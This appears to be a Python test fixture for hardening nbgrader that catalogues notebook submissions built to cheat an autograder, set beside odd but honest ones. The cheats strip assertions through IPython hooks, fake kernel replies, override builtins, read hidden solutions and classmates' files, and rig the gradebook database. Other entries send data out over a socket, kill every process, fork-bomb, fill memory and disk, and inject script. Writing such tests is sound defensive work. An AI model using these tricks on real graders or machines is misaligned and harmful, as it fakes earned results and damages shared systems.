"""Submissions that try to get points that were not earned, or to spoil a class; and honest ones that look odd.

Each is the lab `lists` of the tiny course with a wrong answer to question 1 (2 points) and the right one to question 2 (1 point): more than one
point is a gain. `cell` is a cell of the student's own before question 1, `answer` the answer to it, `change` what is done to the file.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from nbformat import NotebookNode

EARNED = 1.0
"""What the attackers' answers are worth."""

WRONG = "def in_stock(items):\n    return []"
RIGHT = "def in_stock(items):\n    return [name for name, count in items if count > 0]"

GAINS, UNSCORED, SPOILS = "gains points", "keeps the cell from being scored", "ends the whole run"


@dataclass(frozen=True)
class Attack:
    """One way, and what it comes to.

    `stock` is what it does under nbgrader's own settings, as measured by the tests; empty where it does nothing there, None where it must not be
    tried outside of a sandbox. `tampered` tells whether ours names it, `slow` whether it takes its time, `ends` whether its notebook does not
    come to its end, and may score less than it earned.
    """

    cell: str = ""
    answer: str = WRONG
    change: Callable[[NotebookNode], object] | None = None
    stock: str | None = ""
    tampered: bool = True
    slow: bool = False
    ends: bool = False


def cell_of(nb: NotebookNode, grade_id: str) -> NotebookNode:
    """Return the cell with this grade_id."""
    return next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def content(attack: Attack, solved: NotebookNode) -> bytes:
    """Return the file of the submission, made from a solved lab."""
    nb = solved
    cell_of(nb, "q1").source = attack.answer
    if attack.cell:
        nb.cells.insert(nb.cells.index(cell_of(nb, "q1_prompt")), nbformat.v4.new_code_cell(attack.cell, id="own"))
    if attack.change:
        attack.change(nb)
    return json.dumps(nb).encode()


def _about(grade_id: str, /, **values: object) -> Callable[[NotebookNode], object]:
    return lambda nb: cell_of(nb, grade_id).metadata.nbgrader.update(values)


def _tag(*tags: str) -> Callable[[NotebookNode], object]:
    return lambda nb: cell_of(nb, "q1_test").metadata.update(tags=list(tags))


def _twice(nb: NotebookNode) -> None:
    nb.cells.append(json.loads(json.dumps(cell_of(nb, "q1_test"))))


# Strings that differ from all others twice, and are equal to all others from then on: what the tests of question 1 want.
CHAMELEON = """
class Chameleon(str):
    looked = 0
    def __eq__(self, other):
        Chameleon.looked += 1
        return Chameleon.looked > 1
    def __ne__(self, other):
        return not self == other
    __hash__ = str.__hash__
"""

# No string at all, but shown as one.
ODD = f"""{CHAMELEON}
class Odd:
    def __str__(self):
        return Chameleon('x')
"""

STRIP = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
"""

# The hidden tests and the solution, wherever they may lie above the working directory.
FIND = """
import glob, json, os, re
def find(pattern):
    for top in ('.', '..', '../..', '../../..', '../../../..', ROOT):
        yield from glob.glob(os.path.join(top, pattern), recursive=True)
"""

ATTACKS: dict[str, Attack] = {
    # The file itself
    "skips the test by a tag": Attack(change=_tag("skip-execution"), stock=GAINS),
    "lets the test raise by a tag": Attack(change=_tag("raises-exception")),
    "makes the test no test": Attack(change=_about("q1_test", grade=False), stock=UNSCORED),
    "makes another test dearer": Attack(change=_about("q2_test", points=50)),
    "renames the test": Attack(change=_about("q1_test", grade_id="mine"), stock=UNSCORED, tampered=False),
    "removes the test": Attack(
        change=lambda nb: nb.cells.remove(cell_of(nb, "q1_test")), stock=UNSCORED, tampered=False
    ),
    "hands the test in twice": Attack(change=_twice, stock=SPOILS, tampered=False),
    "empties the test": Attack(change=lambda nb: cell_of(nb, "q1_test").update(source="pass"), tampered=False),
    # What turns cells into code, and runs it
    "strips assertions from syntax trees": Attack(
        cell=f"{STRIP}\nget_ipython().ast_transformers.append(Strip())", stock=GAINS
    ),
    "strips assertions from the text": Attack(
        cell="def strip(lines):\n    return ['pass\\n' if line.startswith('assert') else line for line in lines]\n"
        "get_ipython().input_transformers_post.append(strip)",
        stock=GAINS,
    ),
    "strips assertions while cells are cleaned": Attack(
        cell="def strip(lines):\n    return ['pass\\n' if line.startswith('assert') else line for line in lines]\n"
        "get_ipython().input_transformer_manager.cleanup_transforms.append(strip)",
        stock=GAINS,
    ),
    "compiles without assertions": Attack(
        cell="shell = get_ipython()\nreal = shell.compile\nclass Quiet(type(real)):\n"
        "    def __call__(self, source, filename, symbol):\n        return compile(source, filename, symbol, real.flags, True, 1)\n"
        "quiet = Quiet()\nquiet.__dict__.update(real.__dict__)\nshell.compile = quiet",
        stock=GAINS,
    ),
    "runs no code that asserts": Attack(
        cell="shell = get_ipython()\nreal = shell.run_code\nasync def run_code(code, result=None, *, async_=False):\n"
        "    return False if 'AssertionError' in str(code.co_names) + str(code.co_consts) or '_names' in code.co_names else await real(code, result, async_=async_)\n"
        "shell.run_code = run_code",
        stock=GAINS,
    ),
    "replaces run_cell": Attack(
        cell="shell = get_ipython()\nreal = shell.run_cell_async\nasync def run(code, *args, **kwargs):\n"
        "    code = 'pass' if 'assert' in code else code\n    kwargs['transformed_cell'] = shell.transform_cell(code)\n"
        "    return await real(code, *args, **kwargs)\nshell.run_cell_async = run",
        stock=GAINS,
    ),
    "calls every result a success": Attack(
        cell="from IPython.core.interactiveshell import ExecutionResult\nExecutionResult.success = property(lambda self: True)\n"
        "get_ipython().showtraceback = lambda *args, **kwargs: None",
        stock=GAINS,
    ),
    "changes what the kernel does, in its class": Attack(
        cell="kind = type(get_ipython().kernel)\nreal = kind.do_execute\nasync def do_execute(self, code, *args, **kwargs):\n"
        "    return await real(self, 'pass' if 'assert' in code else code, *args, **kwargs)\nkind.do_execute = do_execute",
        stock=GAINS,
    ),
    "changes the code of a function": Attack(
        cell="from IPython.core.interactiveshell import InteractiveShell\ndef transform_cell(self, raw_cell):\n"
        "    return 'pass\\n' if 'assert' in raw_cell else raw_cell + '\\n'\nInteractiveShell.transform_cell.__code__ = transform_cell.__code__",
        stock=GAINS,
    ),
    "keeps stripping from a thread": Attack(
        cell=f"{STRIP}\nimport threading, time\ndef work():\n    while True:\n        time.sleep(0.0005)\n"
        "        if not get_ipython().ast_transformers:\n            get_ipython().ast_transformers.append(Strip())\n"
        "threading.Thread(target=work, daemon=True).start()\ntime.sleep(0.1)",
        stock=GAINS,
    ),
    # How errors are shown
    "shows no errors": Attack(
        cell="shell = get_ipython()\nshell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *a, **k: None",
    ),
    "handles assertions itself": Attack(
        cell="get_ipython().set_custom_exc((AssertionError,), lambda *args, **kwargs: None)", tampered=False
    ),
    "says a number in place of the error": Attack(
        cell="shell = get_ipython()\nshell.showtraceback = lambda *a, **k: shell.displayhook(2)\n", stock=GAINS
    ),
    "answers for the kernel": Attack(
        answer="def in_stock(items):\n    kernel = get_ipython().kernel\n    parent = kernel.get_parent('shell')\n"
        "    ident = kernel._parent_ident.get('shell') if isinstance(kernel._parent_ident, dict) else kernel._shell_parent_ident.get()\n"
        "    reply = {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}\n"
        "    kernel.session.send(kernel.shell_stream, 'execute_reply', reply, parent=parent, ident=ident)\n"
        "    get_ipython().showtraceback = lambda *a, **k: None\n    return []",
        stock=GAINS,
    ),
    # Names that the tests use
    "hides builtins": Attack(
        cell=f"{CHAMELEON}\nclass str(str):\n    def __new__(cls, value):\n        return Chameleon(value)\n"
        "def isinstance(*args):\n    return True\ndef list(value):\n    return [1, 2]",
        stock=GAINS,
        tampered=False,
    ),
    "replaces builtins": Attack(
        cell=f"{ODD}\nimport builtins\nbuiltins.all = lambda values: True",
        answer="def in_stock(items):\n    return [Odd(), Odd()]",
        stock=GAINS,
    ),
    "replaces builtins while the test runs": Attack(
        cell=f"{ODD}\ncalls = 0",
        answer="def in_stock(items):\n    global calls\n    calls += 1\n    if calls > 1:\n"
        "        import builtins\n        builtins.all = lambda values: True\n    return [Odd(), Odd()]",
        stock=GAINS,
    ),
    "brings its own builtins": Attack(
        cell=f"{ODD}\nimport builtins\n__builtins__ = dict(vars(builtins), all=lambda values: True)",
        answer="def in_stock(items):\n    return [Odd(), Odd()]",
        stock=GAINS,
    ),
    "is equal to everything": Attack(
        cell=f"{CHAMELEON}\nclass Name(str):\n    def __str__(self):\n        return Chameleon('x')",
        answer="def in_stock(items):\n    return [Name('a'), Name('b')]",
        stock=GAINS,
    ),
    "jumps over assertions": Attack(
        answer="import sys\ndef in_stock(items):\n    frame = sys._getframe(1)\n    def trace(frame, event, argument):\n"
        "        if event == 'line':\n            try:\n                frame.f_lineno = frame.f_lineno + 1\n"
        "            except ValueError:\n                pass\n        return trace\n    sys.settrace(trace)\n    frame.f_trace = trace\n    return []",
        stock=None,  # it may end the interpreter there
    ),
    "reads the running test": Attack(
        answer="import re\ndef in_stock(items):\n    text = get_ipython().kernel.get_parent('shell')['content']['code'] + In[-1]\n"
        "    wanted = re.findall(r'_names == (\\[.*?\\])', text)\n    return eval(wanted[-1]) if wanted else []",
        stock=GAINS,
        tampered=False,
    ),
    # What lies around
    "takes the solution from source": Attack(
        cell=f"{FIND}\nfor path in find('source/*/lists.ipynb'):\n    for cell in json.load(open(path))['cells']:\n"
        "        if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'q1':\n            stolen = ''.join(cell['source'])",
        answer="try:\n    exec(stolen)\nexcept NameError:\n    in_stock = None",
        stock=GAINS,
        tampered=False,
    ),
    "copies a neighbour": Attack(
        cell=f"{FIND}\nfor path in find('submitted/honest/*/lists.ipynb'):\n    for cell in json.load(open(path))['cells']:\n"
        "        if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'q1':\n            stolen = ''.join(cell['source'])",
        answer="try:\n    exec(stolen)\nexcept NameError:\n    in_stock = None",
        stock=GAINS,
        tampered=False,
    ),
    "writes into the gradebook": Attack(
        cell=f"{FIND}\nimport sqlite3\nfor path in find('gradebook.db'):\n    with sqlite3.connect(path, timeout=5) as database:\n"
        "        database.execute('CREATE TRIGGER IF NOT EXISTS generous AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 2, needs_manual_grade = 0 "
        "WHERE id = NEW.id AND manual_score IS NULL AND auto_score = 0; END')\n    break",
        stock=GAINS,
        tampered=False,
    ),
    "writes outside": Attack(
        cell=f"{FIND}\nfor place in (ROOT, ROOT + '/submitted/honest/arith', ROOT + '/source', HOME):\n    try:\n"
        "        open(place + '/written-by-attack', 'w').close()\n    except OSError:\n        pass",
        tampered=False,
    ),
    "calls home": Attack(
        cell="import socket\ntry:\n    socket.create_connection(('127.0.0.1', PORT), 2).sendall(b'secrets')\nexcept OSError:\n    pass",
        tampered=False,
    ),
    # The machine
    "ends the process": Attack(cell="import os; os._exit(0)", stock=UNSCORED, tampered=False, ends=True),
    "kills its parent": Attack(
        cell="import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(2)", stock=SPOILS, tampered=False, ends=True
    ),
    "kills everything": Attack(
        cell="import os, signal, time\nos.kill(-1, signal.SIGKILL)\ntime.sleep(2)", stock=None, tampered=False, ends=True
    ),
    "stays behind": Attack(
        cell="import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', MARK], start_new_session=True)",
        tampered=False,
    ),
    "prints without end": Attack(cell="for _ in range(60):\n    print('x' * 10**6)", tampered=False),
    "shows active HTML": Attack(
        cell="from IPython.display import HTML, Javascript, display\ndisplay(HTML('<script>alert(1)</script><img src=x onerror=alert(1)>'), Javascript('alert(1)'))",
        change=lambda nb: nb.cells.append(nbformat.v4.new_markdown_cell("<script>alert(1)</script>", id="html")),
        tampered=False,
    ),
    "runs for ever": Attack(
        cell="while True:\n    try:\n        while True: pass\n    except BaseException: pass", stock=None, tampered=False, slow=True, ends=True
    ),
    "keeps the kernel busy": Attack(
        cell="import asyncio\nasync def hang():\n    while True: pass\n_ = asyncio.ensure_future(hang())", stock=None, tampered=False, slow=True, ends=True
    ),
    "takes all memory": Attack(cell="hoard = [bytearray(10**8) for _ in range(100)]", stock=None, tampered=False, slow=True),
    "forks for ever": Attack(
        cell="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError: pass", stock=None, tampered=False, slow=True, ends=True
    ),
    "fills the disk": Attack(
        cell="try:\n    with open('full', 'wb') as file:\n        for _ in range(2000): file.write(bytes(10**7))\nexcept OSError: pass", stock=None, tampered=False, slow=True
    ),
}  # fmt: skip

HONEST: dict[str, Attack] = {
    "plots and libraries": Attack(cell="%matplotlib inline\nimport matplotlib.pyplot as plt, numpy as np, pandas as pd\nplt.plot([1, 2]); plt.show()"),
    "times its cells": Attack(cell="import time\nget_ipython().events.register('pre_run_cell', lambda info: None)\nget_ipython().events.register('post_run_cell', lambda result: print(time.time()))"),
    "shows tables its way": Attack(cell="import pandas as pd\nget_ipython().display_formatter.formatters['text/html'].for_type(pd.DataFrame, lambda frame: '<b>mine</b>')\npd.set_option('display.precision', 2)"),
    "names a variable sum": Attack(cell="sum, list, all, max = 0, [1, 2], True, 3"),
    "shows all results": Attack(cell="get_ipython().ast_node_interactivity = 'all'\n1\n2"),
    "profiles": Attack(cell="import cProfile\ncProfile.run('sorted(range(10))')\n%time 1 + 1\n%timeit -n 1 -r 1 1 + 1"),
    "has threads": Attack(cell="import threading, time\nthreading.Thread(target=time.sleep, args=(30,), daemon=True).start()"),
    "has classes with equality": Attack(cell="import dataclasses\n@dataclasses.dataclass\nclass Item:\n    name: str\n    count: int\n    def __hash__(self): return 1"),
    "warns and logs": Attack(cell="import logging, sys, warnings\nwarnings.warn('careful')\nlogging.captureWarnings(True)\nlogging.warning('logged')\nprint('x', file=sys.stderr)"),
    "sets an alarm": Attack(cell="import signal\nsignal.signal(signal.SIGALRM, lambda *_: None)\nsignal.alarm(20)"),
    "writes a module": Attack(cell="%%writefile helper.py\ndef positive(count):\n    return count > 0", answer="import helper\ndef in_stock(items):\n    return [name for name, count in items if helper.positive(count)]"),
    "patches its own pandas method": Attack(cell="import pandas as pd\npd.DataFrame.shout = lambda self: print('!')"),
    "uses magics": Attack(cell="%load_ext autoreload\n%autoreload 2\n%precision 2\n!echo hello"),
}  # fmt: skip
"""Right answers beside something odd: full points, and no accusation."""
